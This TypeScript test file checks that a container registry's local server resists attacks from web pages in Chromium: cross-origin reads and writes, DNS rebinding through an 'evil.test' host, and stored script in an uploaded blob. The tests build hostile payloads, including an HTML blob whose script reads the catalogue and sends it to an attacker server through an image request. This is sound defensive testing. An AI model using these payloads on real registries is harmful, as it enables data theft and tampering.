import { once } from "node:events";
import { readdir } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { digestOf } from "@tranship/core";
import { expect, it } from "vitest";
import { Chromium } from "../peers/chromium.ts";
import { describePeers } from "../peers/describe-peers.ts";
import { pushBlob } from "./client.ts";
import { type FolderServer, serveFolder } from "./folder-server.ts";
import { artifact, pushEmptyBlob, putManifest, someBytes } from "./sample-content.ts";

/** A page of somebody else, and what comes back to its server. */
interface Site extends AsyncDisposable {
  readonly port: number;
  readonly told: string[];
}

async function site(): Promise<Site> {
  const told: string[] = [];
  const server = createServer((request, response) => {
    const path = request.url ?? "/";
    if (path.startsWith("/told")) told.push(decodeURIComponent(path));
    response.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><title>somebody's page</title>");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return {
    port: (server.address() as AddressInfo).port,
    told,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      server.close();
      await once(server, "close");
    },
  };
}

/** A registry with an image, and the requests that its endpoints get from now on. */
async function registry(): Promise<{ readonly folder: FolderServer; readonly taken: string[] }> {
  const taken: string[] = [];
  const folder = await serveFolder({
    hook: async (request, next) => {
      taken.push(`${request.method} ${request.path}`);
      return next();
    },
  });
  await pushEmptyBlob(folder.url, "secret");
  await putManifest(folder.url, "secret", "v1", artifact().bytes);
  taken.length = 0;
  return { folder, taken };
}

/** What a hostile page tries, by name; each gives what it could read. */
function attempts(url: string, digest: string): Readonly<Record<string, string>> {
  const put = `${url}/v2/stored/blobs/uploads/?digest=${digest}`;
  const read = (code: string): string => `(async () => { try { ${code} } catch (error) { return "refused"; } })()`;
  const element = (tag: string, target: string): string =>
    read(`return await new Promise((resolve) => { const one = document.createElement("${tag}");
      one.onload = () => resolve(one.contentDocument?.body?.textContent ?? "loaded"); one.onerror = () => resolve("refused");
      one.src = "${target}"; document.body.append(one); })`);
  const form = (target: string): string =>
    read(`return await new Promise((resolve) => { const frame = document.createElement("iframe"); frame.name = "f" + Math.random();
      document.body.append(frame); const form = document.createElement("form"); form.method = "post"; form.enctype = "text/plain";
      form.action = "${target}"; form.target = frame.name; const field = document.createElement("input"); field.name = "x"; field.value = "y";
      form.append(field); document.body.append(form); frame.onload = () => resolve(frame.contentDocument?.body?.textContent ?? "loaded"); form.submit(); })`);
  const fetched = (target: string, init: string): string =>
    read(
      `const response = await fetch("${target}", ${init}); return response.type === "opaque" ? "opaque" : await response.text();`,
    );
  return {
    "reads the catalogue": fetched(`${url}/v2/_catalog`, "{}"),
    "reads it without CORS": fetched(`${url}/v2/_catalog`, '{ mode: "no-cors" }'),
    "reads a manifest": fetched(`${url}/v2/secret/manifests/v1`, '{ credentials: "include" }'),
    "begins an upload": fetched(`${url}/v2/stored/blobs/uploads/`, '{ method: "POST", mode: "no-cors" }'),
    "stores a blob": fetched(put, '{ method: "POST", mode: "no-cors", body: "x=y" }'),
    "stores a manifest": fetched(`${url}/v2/secret/manifests/evil`, '{ method: "PUT", body: "{}" }'),
    "changes an upload": fetched(`${url}/v2/secret/blobs/uploads/x`, '{ method: "PATCH", body: "x" }'),
    "deletes a tag": fetched(`${url}/v2/secret/manifests/v1`, '{ method: "DELETE" }'),
    "sends a beacon": read(`navigator.sendBeacon("${put}", "x=y"); return "sent";`),
    "posts a form": form(put),
    "shows it as an image": element("img", `${url}/v2/_catalog`),
    "runs it as a script": element("script", `${url}/v2/secret/manifests/v1`),
    "frames it": element("iframe", `${url}/v2/_catalog`),
  };
}

describePeers("serve() and a page in Chromium", ["chromium"], ({ chromium }) => {
  it("of another origin: reads nothing, stores nothing, and reaches no endpoint", async () => {
    const { folder, taken } = await registry();
    await using _ = folder;
    await using attacker = await site();
    await using browser = await Chromium.start(chromium, { "evil.test": "127.0.0.1" });
    const { digest } = someBytes(3);
    const before = await readdir(folder.dir, { recursive: true });
    for (const host of [`127.0.0.1:${attacker.port}`, `localhost:${attacker.port}`, `evil.test:${attacker.port}`]) {
      const page = await browser.open(`http://${host}/`);
      for (const [name, code] of Object.entries(attempts(folder.url, digest))) {
        const got = String(await page.evaluate(code));
        expect(got, `${host} ${name}`).not.toContain("secret");
        expect(got, `${host} ${name}`).not.toContain("schemaVersion");
      }
    }
    expect(taken).toEqual([]);
    expect(await readdir(folder.dir, { recursive: true })).toEqual(before);
  });

  it("of a name that leads to it by now (DNS rebinding): nothing is read", async () => {
    const { folder, taken } = await registry();
    await using _ = folder;
    await using browser = await Chromium.start(chromium, { "evil.test": "127.0.0.1" });
    const before = await readdir(folder.dir, { recursive: true });
    // Its pages would be of the registry's own origin: what such a page reads is what is shown here.
    for (const path of ["/v2/", "/v2/_catalog", "/v2/secret/tags/list", "/v2/secret/manifests/v1"]) {
      const page = await browser.open(`http://evil.test:${folder.server.port}${path}`);
      const text = String(await page.evaluate("document.documentElement.textContent"));
      expect(text).toContain("DENIED");
      expect(text).not.toContain("schemaVersion");
      expect(text.replaceAll(path, "")).not.toContain("secret");
    }
    expect(taken).toEqual([]);
    expect(await readdir(folder.dir, { recursive: true })).toEqual(before);
  });

  it("that a blob is: no script of it runs in the registry's origin", async () => {
    const { folder } = await registry();
    await using _ = folder;
    await using attacker = await site();
    await using browser = await Chromium.start(chromium);
    const told = `http://127.0.0.1:${attacker.port}/told?`;
    const html = `<script>new Image().src = "${told}ran"; fetch("/v2/_catalog").then(async (r) => { new Image().src = "${told}" + await r.text(); });</script>`;
    const bytes = Buffer.from(html);
    const digest = digestOf(bytes);
    await pushBlob(folder.url, "secret", digest, bytes);
    const page = await browser.open(`http://127.0.0.1:${attacker.port}/`);
    const framed = `new Promise((resolve) => { const one = document.createElement("iframe"); one.onload = () => resolve("loaded"); setTimeout(() => resolve("nothing"), 1500);
      one.src = "${folder.url}/v2/secret/blobs/${digest}"; document.body.append(one); })`;
    await page.evaluate(framed);
    expect(attacker.told).toEqual([]);
    // The browser and the page work: what they are told here arrives.
    await page.evaluate(`fetch("${told}here").then(() => "done")`);
    expect(attacker.told).toEqual(["/told?here"]);
  });
});
